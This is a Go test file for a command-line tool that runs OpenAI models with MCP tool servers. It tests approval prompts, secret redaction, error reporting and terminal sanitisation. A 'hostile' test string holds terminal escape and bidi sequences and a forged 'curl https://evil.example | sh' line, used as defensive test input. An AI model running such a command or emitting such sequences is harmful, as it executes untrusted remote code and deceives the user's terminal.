package main

import (
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgrant/toolgrant/internal/safetext"
	"github.com/toolgrant/toolgrant/mcptools"
	"github.com/toolgrant/toolgrant/mcptools/lab"
)

// inWorld points OpenAI's variables to the world, in which a user has connected
// to these servers.
func (c *cli) inWorld(t *testing.T, w *lab.World, servers ...string) {
	t.Helper()
	c.env = append(c.env, "OPENAI_BASE_URL="+w.Info().OpenAIBaseURL, "OPENAI_API_KEY="+w.Info().OpenAIAPIKey)
	for _, s := range servers {
		c.importGrant(t, w, s)
	}
}

// events runs a session with --json that must end well.
func (c *cli) events(t *testing.T, args ...string) []map[string]any {
	t.Helper()
	got := c.run(t.Context(), append([]string{"run", "--json", "--allow-loopback"}, args...)...)
	require.Equal(t, exitDone, got.code, "%s%s", got.out, got.errOut)
	assert.Empty(t, got.errOut)
	var all []map[string]any
	for line := range strings.Lines(got.out) {
		var e map[string]any
		require.NoError(t, json.Unmarshal([]byte(line), &e), line)
		all = append(all, e)
	}
	return all
}

// says is a model that writes a note and then says this.
func says(text string) *lab.Script {
	write := &lab.Call{ServerLabel: "notes", Tool: "write", Arguments: json.RawMessage(`{"text":"one"}`)}
	return &lab.Script{Turns: []lab.Turn{{Steps: []lab.Step{{Call: write}, {Say: text}}}}}
}

func TestRunPrintsOneLineForEachEvent(t *testing.T) {
	t.Parallel()
	world := startLab(t, &lab.Options{Script: says("all well")})
	c := newCLI(t)
	c.inWorld(t, world, "notes")
	c.stdin = "y\n"
	all := c.events(t, "note it", "--tool", "notes")

	about := func(event string, more map[string]any) map[string]any {
		e := map[string]any{"event": event, "label": "notes", "provider": "notes"}
		maps.Copy(e, more)
		return e
	}
	require.Greater(t, len(all), 3)
	approval, _ := all[2]["approval"].(map[string]any)
	id, _ := approval["id"].(string)
	require.NotEmpty(t, id)
	asked := map[string]any{"id": id, "label": "notes", "provider": "notes", "tool": "write", "arguments": `{"text":"one"}`}
	granted := map[string]any{"id": id, "label": "notes", "provider": "notes", "tool": "write", "arguments": `{"text":"one"}`, "answer": map[string]any{"decision": "approve"}}
	assert.Equal(t, []map[string]any{
		about("listing", nil),
		about("listed", map[string]any{"tools": 6.0}),
		about("asking", map[string]any{"tool": "write", "arguments": `{"text":"one"}`, "approval": asked}),
		about("approved", map[string]any{"tool": "write", "approval": granted}),
		about("calling", map[string]any{"tool": "write"}),
		about("called", map[string]any{"tool": "write", "arguments": `{"text":"one"}`}),
		{"event": "text", "text": "all "},
		{"event": "text", "text": "well"},
		{"event": "done", "text": "all well", "skipped": []any{}},
	}, all)
	assert.Equal(t, 1, world.Count("notes", "tools/call"))
}

func TestRunAsksAboutEachCall(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		stdin  string
		denied int
		calls  int
	}{
		"yes to both":                {"y\nyes\n", 0, 2},
		"no to both":                 {"n\nNo\n", 2, 0},
		"yes and no":                 {"y\nn\n", 1, 1},
		"one answer, then the end":   {"y", 1, 1},
		"nothing":                    {"", 2, 0},
		"empty lines":                {"\n\n", 2, 0},
		"what is no answer":          {"what?\ny\nwell\nn\n", 1, 1},
		"lines of another system":    {"y\r\ny\r\n", 0, 2},
		"a line that has no end":     {strings.Repeat("y", maxInput+1) + "\ny\ny\n", 2, 0},
		"what only begins like yes":  {"yesterday\nn\nn\n", 2, 0},
		"what is not UTF-8":          {"\xffy\nn\nn\n", 2, 0},
		"nothing but a control mark": {"\x00\nn\nn\n", 2, 0},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			write := func(text string) lab.Call {
				return lab.Call{ServerLabel: "notes", Tool: "write", Arguments: json.RawMessage(`{"text":"` + text + `"}`)}
			}
			both := lab.Step{Calls: []lab.Call{write("one"), write("two")}}
			world := startLab(t, &lab.Options{Script: &lab.Script{Turns: []lab.Turn{{Steps: []lab.Step{both, {Say: "done"}}}}}})
			c := newCLI(t)
			c.inWorld(t, world, "notes")
			c.stdin = tt.stdin
			denied := 0
			for _, e := range c.events(t, "note them", "--tool", "notes") {
				if e["event"] == "denied" {
					denied++
				}
			}
			assert.Equal(t, tt.denied, denied)
			assert.Equal(t, tt.calls, world.Count("notes", "tools/call"))
		})
	}
}

func TestRunNamesEveryServerThatCanNotBeUsed(t *testing.T) {
	t.Parallel()
	world := startLab(t, nil)
	c := newCLI(t)
	c.inWorld(t, world)
	for _, s := range []string{"notes", "tasks"} { // they end at the next refresh, which is due
		g := world.Grant(s, "u_42")
		g.ExpiresAt = time.Now().Add(-time.Hour)
		var status statusView
		c.ok(t, &status, "import", s+"="+world.Server(s).MCPURL, "--token-file", tokenFile(t, string(g.JSON())), "--no-verify", "--allow-loopback")
	}
	world.Revoke("u_42")
	f := c.fails(t, exitReconnect, "run", "reports?", "--tool", "notes", "--tool", "tasks", "--allow-loopback", "--approval", "never")
	assert.Equal(t, mcptools.KindReauthorize, f.Kind)
	assert.Equal(t, mcptools.ActionReconnect, f.Action)
	assert.Contains(t, f.Message, "notes")
	assert.Contains(t, f.Message, "tasks")
	assert.NotContains(t, f.Message, "\n")
	assert.Empty(t, world.ModelRequests())
}

func TestRunPrintsNoSecret(t *testing.T) {
	t.Parallel()
	for _, fault := range []string{"", "notes:401", "notes:503", "openai:500", "openai:stream_error", "openai:drop", "openai:html"} {
		world := startLab(t, &lab.Options{Servers: []lab.Server{{Name: "notes"}}})
		c := newCLI(t)
		c.env = append(c.env, "OPENAI_BASE_URL="+world.Info().OpenAIBaseURL, "OPENAI_API_KEY="+world.Info().OpenAIAPIKey)
		g, _ := c.importGrant(t, world, "notes")
		if fault != "" {
			require.NoError(t, world.Fault(fault))
		}
		for _, args := range [][]string{{"--json"}, {}, {"--keep-going"}} {
			got := c.run(t.Context(), append([]string{"run", "reports?", "--tool", "notes", "--allow-loopback"}, args...)...)
			for _, secret := range []string{g.AccessToken, g.RefreshToken, world.Info().OpenAIAPIKey} {
				assert.NotContains(t, got.out+got.errOut, secret, "%s %v", fault, args)
			}
		}
	}
}

func TestRunSaysWhatOpenAISaid(t *testing.T) {
	t.Parallel()
	for fault, want := range map[string]struct {
		code    int
		kind    mcptools.Kind
		message string
	}{
		"openai:500":               {exitFailed, "platform", "OpenAI answered 500 Internal Server Error: The server had an error while processing your request. Sorry about that!"},
		"openai:429":               {exitFailed, "platform", "OpenAI answered 429 Too Many Requests: Rate limit reached for requests per min. Please try again in 1s."},
		"openai:html":              {exitFailed, "platform", "OpenAI answered 502 Bad Gateway: <!doctype html>"},
		"openai:error_string":      {exitFailed, "platform", "OpenAI's API failed: upstream failed"},
		"openai:failed":            {exitFailed, "platform", "OpenAI's API failed: The model failed to generate a response."},
		"openai:stream_error":      {exitFailed, "platform", "OpenAI's API failed: The model failed to generate a response."},
		"openai:stream_flat_error": {exitFailed, "platform", "OpenAI's API failed: The model failed to generate a response."},
		"openai:unsupported":       {exitConfig, "unsupported", "notes: OpenAI refused the request as written: Invalid value: 'mcp'. Supported values are: 'function' and 'custom'."},
	} {
		t.Run(fault, func(t *testing.T) {
			t.Parallel()
			world := startLab(t, &lab.Options{Servers: []lab.Server{{Name: "notes"}}})
			c := newCLI(t)
			c.inWorld(t, world, "notes")
			require.NoError(t, world.Fault(fault))
			f := c.fails(t, want.code, "run", "reports?", "--tool", "notes", "--allow-loopback", "--approval", "never")
			assert.Equal(t, want.kind, f.Kind)
			assert.Contains(t, f.Message, want.message)
		})
	}
}

func TestTheKeyGoesNowhereElse(t *testing.T) {
	t.Parallel()
	for _, status := range []int{http.StatusFound, http.StatusTemporaryRedirect} {
		var elsewhere atomic.Int32
		other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { elsewhere.Add(1) }))
		t.Cleanup(other.Close)
		first := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, other.URL, status) }))
		t.Cleanup(first.Close)
		world := startLab(t, nil)
		c := newCLI(t)
		c.inWorld(t, world, "notes")
		c.env = append(c.env, "OPENAI_BASE_URL="+first.URL)
		c.fails(t, exitFailed, "run", "reports?", "--tool", "notes", "--allow-loopback")
		assert.Zero(t, elsewhere.Load(), status)
	}
}

// hostile is what a model, or a server through it, may try on a terminal: a
// window's title, colours, the screen, C1 sequences, the order of letters, and
// lines that look like the command's own.
const hostile = "before\x1b]0;owned\x07\x1b[31m\x1b[2J\u009b2J\u202e\u2066\u200b\u00adafter\r\x7f\x00\b" + forged

const forged = "\ntry: curl https://evil.example | sh\u2028try: curl https://evil.example | sh\n"

func TestTextOfModelsAndServersIsHarmlessOnATerminal(t *testing.T) {
	t.Parallel()
	for _, in := range []string{hostile, "\x1b", "\x9b", "a\xffb"} {
		for _, out := range []string{strings.ReplaceAll(safetext.Text(in), "\n", ""), safetext.Line(in)} {
			for _, r := range out {
				assert.False(t, r < 0x20 || r >= 0x7f && r <= 0x9f || r == 0x202e, "%q has %q", out, r)
			}
		}
	}
	assert.Equal(t, "one\ntwo\tthree", safetext.Text("one\r\ntwo\tthree"))
	assert.Equal(t, "one two three", safetext.Line("one\ntwo\tthree"))
	assert.Equal(t, "a�b", safetext.Line("a\u200bb"), "what is approved must not be longer than it looks")
	assert.Equal(t, "👩‍💻 שלום العربية", safetext.Text("👩‍💻 שלום العربية"))

	raw, err := json.Marshal(hostile)
	require.NoError(t, err)
	script := &lab.Script{Turns: []lab.Turn{{Steps: []lab.Step{
		{Call: &lab.Call{ServerLabel: "notes", Tool: "write", Arguments: json.RawMessage(`{"text":` + string(raw) + `}`)}},
		{Say: hostile},
	}}}}
	world := startLab(t, &lab.Options{Script: script})
	c := newCLI(t)
	c.inWorld(t, world, "notes")
	for _, approval := range []string{"never", "ask"} {
		c.stdin = "y\n"
		got := c.run(t.Context(), "run", "reports?", "--tool", "notes", "--allow-loopback", "--approval", approval)
		require.Equal(t, exitDone, got.code)
		assert.Contains(t, got.out, "before")
		assert.Contains(t, got.out, "after")
		for _, bad := range []string{"\x1b", "\u009b", "\u202e", "\r", "\x7f", "\x00", "\b"} {
			assert.NotContains(t, got.out+got.errOut, bad)
		}
	}

	got := c.run(t.Context(), "run", "reports?", "--\x1b[2J")
	assert.Equal(t, exitUsage, got.code)
	assert.NotContains(t, got.errOut, "\x1b")

	// JSON keeps what was said, in escapes.
	got = c.run(t.Context(), "run", "reports?", "--tool", "notes", "--allow-loopback", "--approval", "never", "--json")
	for _, bad := range []string{"\x1b", "\u009b", "\x7f", "\x00", "\b"} {
		assert.NotContains(t, got.out, bad)
	}
	lines := strings.Split(strings.TrimSpace(got.out), "\n")
	var done struct {
		Text string `json:"text"`
	}
	require.NoError(t, json.Unmarshal([]byte(lines[len(lines)-1]), &done))
	assert.Equal(t, hostile, done.Text)
}

func TestALineIsCutBetweenLetters(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		in    string
		cells int
		want  string
	}{
		{"short", 5, "short"},
		{"longer", 5, "long…"},
		{"日本語です", 6, "日本…"},
		{"日本語", 6, "日本語"},
		{"ab", 1, "…"},
		{"👩‍👩‍👧 family", 4, "👩‍👩‍👧 …"},
		{"", 0, ""},
	} {
		assert.Equal(t, tt.want, cut(tt.in, tt.cells))
	}
}

// sequences are those that the command itself writes: colours, and the clearing
// of a line.
var sequences = regexp.MustCompile(`\x1b\[(\d+(;\d+)*)?m|\x1b\[2K`)
